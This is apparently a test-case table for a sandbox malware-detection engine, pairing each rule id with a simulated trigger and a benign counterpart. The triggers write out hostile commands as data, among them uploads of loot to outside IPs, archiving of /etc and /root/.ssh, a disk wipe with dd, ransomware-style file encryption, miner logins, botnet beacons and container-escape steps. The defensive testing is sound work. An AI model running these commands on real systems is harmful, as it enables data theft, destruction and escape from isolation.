  { id: 'ST-LAT-001', trigger: (s) => s.run('/usr/bin/scp', ['scp', 'data.tgz', 'root@198.51.100.3:/tmp/']), benign: (s) => s.run('/usr/bin/scp', ['scp', 'a', 'b']) },
  { id: 'ST-LAT-002', trigger: (s) => s.sys(1, 'socket', [17, 3, 768], -1), benign: (s) => s.sys(1, 'socket', [2, 1, 0], 3) },
  { id: 'ST-ESC-005', trigger: (s) => s.connectUnix(1, '/var/run/docker.sock', -2), benign: (s) => s.connectUnix(1, '/run/dbus/system_bus_socket', -2) },
  // what the sample sent over a connection the sandbox caught (rules of source session)
  // the Stratum login a Java miner sent over its dual-stack socket: the caught session (IPv4) is matched to its connect (IPv4-mapped)
  { id: 'ST-C2-012', trigger: (s) => { const a = s.lookup('pool.example.test'); s.connect(s.run('/usr/bin/java', ['java', '-jar', 'm.jar']), `::ffff:${a}`, 3333, -115); s.caught(a, 3333, '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\n'); },
    benign: (s) => { const a = s.lookup('pool.example.test'); s.connect(s.run('/usr/bin/java', ['java', '-jar', 'm.jar']), `::ffff:${a}`, 3333, -115); s.caught(a, 3333, '{"id":1,"method":"status"}\n'); } },
  { id: 'ST-C2-012', trigger: (s) => web(s, 'pool.example.test', 3333, '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AbCwallet","pass":"x","agent":"XMRig/6.21.0"}}\n'),
    benign: (s) => web(s, 'node.example.test', 8545, '{"id":1,"jsonrpc":"2.0","method":"eth_blockNumber","params":[]}\n') },
  { id: 'ST-EXF-002', trigger: (s) => web(s, 'cdn.example.test', 80, http('POST', '/gate.php', 'cdn.example.test', 'secret=1')),
    benign: (s) => web(s, 'cdn.example.test', 80, http('GET', '/index.html', 'cdn.example.test')) },
  { id: 'ST-C2-013', trigger: (s) => web(s, 'cdn.example.test', 443, '\x00\x07BEACON devbox'), benign: (s) => web(s, 'cdn.example.test', 80, http('GET', '/', 'cdn.example.test')) },
  { id: 'ST-C2-014', trigger: (s) => web(s, null, 80, http('GET', '/x.sh', '203.0.113.7')), benign: (s) => web(s, 'www.example.test', 80, http('GET', '/x.sh', 'www.example.test')) },
  // a bot registering and joining its channel; a client that only sends text beginning with NICK's letters is no IRC
  { id: 'ST-C2-019', trigger: (s) => { const a = s.lookup('irc.botnet.example.test'); s.connect(1, a, 6667, -115); s.caughtIrc(a, 6667, 'NICK [x86]bot\r\nUSER bot 0 * :bot\r\nJOIN #cmd k3y\r\n'); },
    benign: (s) => web(s, 'chat.example.test', 6667, 'NICKNAME please\r\n') },
  { id: 'ST-C2-015', trigger: (s) => web(s, 'api.telegram.org', 80, http('POST', '/bot123:AAE/sendMessage', 'api.telegram.org', 'chat_id=1&text=devbox')),
    benign: (s) => web(s, 'telegram.org.example.test', 80, http('GET', '/api/status', 'telegram.org.example.test')) },
  { id: 'ST-C2-016', trigger: (s) => mail(s, 'EHLO bot\r\nMAIL FROM:<promo@shop.example.test>\r\nRCPT TO:<victim@example.test>\r\nDATA\r\nSubject: You won\r\n\r\nclick\r\n.\r\n'),
    benign: (s) => mail(s, 'EHLO bot\r\nQUIT\r\n') },
  { id: 'ST-EXF-004', trigger: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER ops\r\nPASS pw\r\nTYPE I\r\nPASV\r\nSTOR PW_devbox_2026.zip\r\nQUIT\r\n'),
    benign: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER anonymous\r\nPASS guest\r\nPASV\r\nRETR pub/readme.txt\r\nQUIT\r\n') },
  { id: 'ST-C2-018', trigger: (s) => { for (let i = 0; i < 12; i++) s.lookup(`${'3f9a'.repeat(10)}${i}.t.tunnel.test`); },
    // many short names of one domain, one long name of another, 19 TXT questions: none a tunnel (a domain is the last two labels)
    benign: (s) => { for (let i = 0; i < 12; i++) s.lookup(`host-${i}.cdn.test`); s.lookup(`${'a'.repeat(40)}.other.test`); for (let i = 0; i < 19; i++) s.ask('spf.example.test', 16); } },
  { id: 'ST-C2-018', trigger: (s) => { for (let i = 0; i < 20; i++) s.ask(`c${i % 3}.cmd.example.test`, 16); }, benign: (s) => { for (let i = 0; i < 19; i++) s.ask(`c${i % 3}.cmd.example.test`, 16); } },
  { id: 'ST-C2-017', trigger: (s) => { const a = s.lookup('imap.example.test'); s.connect(1, a, 143, -115); s.caughtMailbox(a, 143, 'imap', 'a1 CAPABILITY\r\na2 LOGIN "orders@example.test" "pw 1"\r\na3 SELECT INBOX\r\n'); },
    benign: (s) => { const a = s.lookup('imap.example.test'); s.connect(1, a, 143, -115); s.caughtMailbox(a, 143, 'imap', 'a1 CAPABILITY\r\na2 LOGOUT\r\n'); } },
  { id: 'ST-CRD-013', trigger: (s) => ftpLogins(s, 10), benign: (s) => ftpLogins(s, 9) },
  { id: 'ST-EXF-003', trigger: (s) => mail(s, `EHLO pc\r\nAUTH LOGIN\r\n${b64('logs@mail.example.test')}\r\n${b64('hunter2')}\r\nQUIT\r\n`),
    benign: (s) => mail(s, 'EHLO pc\r\nAUTH CRAM-MD5\r\nMAIL FROM:<a@example.test>\r\nRCPT TO:<b@example.test>\r\nDATA\r\n\r\nhi\r\n.\r\n') },
  { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
  // collection and impact
  { id: 'ST-COL-001', trigger: (s) => s.run('/usr/bin/tar', ['tar', 'czf', '/tmp/l.tgz', '/etc', '/root/.ssh']), benign: (s) => s.run('/usr/bin/tar', ['tar', 'czf', 'out.tgz', 'data']) },
  { id: 'ST-COL-002', trigger: (s) => s.open(1, '/dev/input/event0', O.r), benign: (s) => s.open(1, '/dev/urandom', O.r) },
  { id: 'ST-COL-003', trigger: (s) => { for (let i = 0; i < 105; i++) s.open(1, `/home/user/docs/f${i}.txt`, O.r); },
    benign: (s) => { for (let i = 0; i < 105; i++) s.open(1, `/usr/share/doc/f${i}.txt`, O.r); } },
  { id: 'ST-IMP-001', trigger: (s) => { for (let i = 0; i < 31; i++) s.open(1, `/home/user/docs/f${i}.docx`, O.rw); },
    benign: (s) => { for (let i = 0; i < 31; i++) s.open(1, `/root/out/f${i}.txt`, O.w); } },
  { id: 'ST-IMP-002', trigger: (s) => { for (let i = 0; i < 26; i++) s.rename(1, `/home/user/f${i}.jpg`, `/home/user/f${i}.jpg.locked`); },
    benign: (s) => { for (let i = 0; i < 3; i++) s.rename(1, `/root/f${i}.tmp`, `/root/f${i}`); } },
  { id: 'ST-IMP-003', trigger: (s) => { for (let i = 0; i < 101; i++) s.unlink(1, `/home/user/f${i}`); },
    benign: (s) => { for (let i = 0; i < 101; i++) s.unlink(1, `/tmp/build/f${i}.o`); } },
  { id: 'ST-IMP-004', trigger: (s) => s.open(1, '/home/user/HOW_TO_DECRYPT.txt', O.w), benign: (s) => s.open(1, '/home/user/README.txt', O.w) },
  { id: 'ST-IMP-005', trigger: (s) => s.run('/tmp/.x/kworker', ['kworker', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet']), benign: (s) => s.run('/usr/bin/python3', ['python3', 'stats.py']) },
  { id: 'ST-IMP-006', trigger: (s) => s.run('/usr/bin/dd', ['dd', 'if=/dev/zero', 'of=/dev/sda']), benign: (s) => s.run('/usr/bin/dd', ['dd', 'if=/dev/zero', 'of=/tmp/img', 'count=1']) },
  { id: 'ST-IMP-007', trigger: (s) => { for (let i = 0; i < 210; i++) s.fork(1); }, benign: (s) => { for (let i = 0; i < 20; i++) s.fork(1); } },
  { id: 'ST-IMP-008', trigger: (s) => s.run('/usr/sbin/reboot', ['reboot', '-f']), benign: (s) => s.run('/usr/bin/uptime', ['uptime']) },
  { id: 'ST-IMP-009', trigger: (s) => s.run('/usr/bin/killall', ['killall', 'sshd']), benign: (s) => s.run('/usr/bin/kill', ['kill', '-0', '1']) },
  // container escape and kernel
  // shell ransomware: one openssl per file; decryptions and digests, however many, are not it
  { id: 'ST-IMP-010', trigger: (s) => { for (const f of ['a.txt', 'b.doc', 'c.pdf', 'd.jpg', 'e.sql']) s.run('/usr/bin/openssl', ['openssl', 'enc', '-aes-256-cbc', '-pass', 'pass:k', '-in', `/home/user/${f}`, '-out', `/home/user/${f}.locked`]); },
    benign: (s) => { for (const f of ['a', 'b', 'c', 'd', 'e', 'f']) { s.run('/usr/bin/openssl', ['openssl', 'enc', '-d', '-aes-256-cbc', '-in', `${f}.enc`]); s.run('/usr/bin/openssl', ['openssl', 'dgst', '-sha256', f]); } } },
  { id: 'ST-IMP-010', trigger: (s) => { for (let i = 0; i < 5; i++) s.run('/usr/bin/gpg', ['gpg', '--batch', '--passphrase', 'k', '-c', `/srv/db${i}.sql`]); },
    benign: (s) => { for (let i = 0; i < 4; i++) s.run('/usr/bin/gpg', ['gpg', '--batch', '--passphrase', 'k', '-c', `/srv/db${i}.sql`]); } },
  // Kinsing's clean-up of the miners already there
  { id: 'ST-IMP-011', trigger: (s) => s.run('/usr/bin/pkill', ['pkill', '-f', 'kdevtmpfsi']), benign: (s) => s.run('/usr/bin/pkill', ['pkill', '-f', 'gunicorn']) },
  { id: 'ST-IMP-011', trigger: (s) => s.run('/usr/bin/grep', ['grep', '-E', 'xmrig|minerd'], { ppid: s.run('/bin/sh', ['sh', '-c', "ps aux | grep -E 'xmrig|minerd'"]) }),
    benign: (s) => s.run('/usr/bin/grep', ['grep', '-E', 'nginx|php-fpm']) },
  { id: 'ST-IMP-011', trigger: (s) => s.run('/usr/bin/killall', ['killall', '-9', 'xmrig']), benign: (s) => s.run('/usr/bin/rm', ['rm', '--', '/tmp/kinsing.sh'], { ppid: s.run('/bin/sh', ['sh', '/tmp/kinsing.sh']) }) },
  { id: 'ST-ESC-001', trigger: (s) => s.sys(1, 'mount', [0, 0, 0, 4096, 0], -1, { path: '/', path2: '/mnt' }), benign: (s) => s.sys(1, 'statfs', [0, 0], 0, { path: '/' }) },
  { id: 'ST-ESC-002', trigger: (s) => s.sys(1, 'unshare', [0x10000000], -1), benign: (s) => s.sys(1, 'clone', [0x1200011], 555) },
  // the same modprobe and module load, run by the sample vs. by the kernel's own usermode helper (autoload)
  { id: 'ST-ESC-003', trigger: (s) => s.sys(s.run('/usr/sbin/modprobe', ['modprobe', 'nf_tables']), 'finit_module', [3, 0, 0], -1),
    benign: (s) => s.sys(s.kernelExec('/usr/sbin/modprobe', ['/sbin/modprobe', '-q', '--', 'net-pf-10'], 'modprobe'), 'finit_module', [3, 0, 0], 0) },
  { id: 'ST-ESC-004', trigger: (s) => s.open(1, '/proc/1/root/etc/shadow', O.r, -13), benign: (s) => s.open(1, '/proc/self/root/etc/hostname', O.r) },
  { id: 'ST-ESC-006', trigger: (s) => s.sys(1, 'bpf', [5, 0, 0], -1), benign: (s) => s.sys(1, 'brk', [0], 4096) },
  { id: 'ST-ESC-007', trigger: (s) => s.open(1, '/sys/fs/cgroup/rdma/release_agent', O.w, -30), benign: (s) => s.open(1, '/proc/sys/kernel/core_pattern', O.r) },
  { id: 'ST-ESC-008', trigger: (s) => s.sys(1, 'keyctl', [0, 0], -1), benign: (s) => s.sys(1, 'getrandom', [0, 16, 0], 16) },
  { id: 'ST-ESC-009', trigger: (s) => s.sys(1, 'chroot', [0], -1, { path: '/tmp/x' }), benign: (s) => s.sys(1, 'chdir', [0], 0, { path: '/tmp' }) },
  { id: 'ST-ESC-010', trigger: (s) => s.open(1, '/dev/sda1', O.r, -2), benign: (s) => s.open(1, '/dev/null', O.w) },
  { id: 'ST-ESC-011', trigger: (s) => s.run('/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', 'sh']), benign: (s) => s.run('/usr/bin/env', ['env']) },
];
